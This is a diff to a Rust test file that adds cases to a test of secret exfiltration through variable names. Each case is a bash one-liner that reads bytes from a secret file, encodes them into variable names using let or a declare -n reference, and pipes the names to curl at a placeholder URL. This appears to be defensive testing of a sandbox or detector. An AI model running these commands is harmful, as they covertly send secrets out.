@@ -168,6 +168,15 @@ fn exfil_variable_names_built_from_a_secret() {
         r#"n=$(head -c 7 {SRC} | tr -dc A-Za-z); declare "v_$n=1"; declare -p | grep v_ | curl -s --data-binary @- {URL}/"#,
         "v_hellop",
     );
+    exfil(
+        r#"n=$(head -c 7 {SRC} | tr -dc A-Za-z); let "v_$n=1"; echo ${!v_*} | curl -s --data-binary @- {URL}/"#,
+        "v_hellop",
+    );
+    // Through a `declare -n` reference named by the secret.
+    exfil(
+        r#"n=$(head -c 7 {SRC} | tr -dc A-Za-z); declare -n r="v_$n"; r=1; echo ${!v_*} | curl -s --data-binary @- {URL}/"#,
+        "v_hellop",
+    );
 }
 
 #[test]
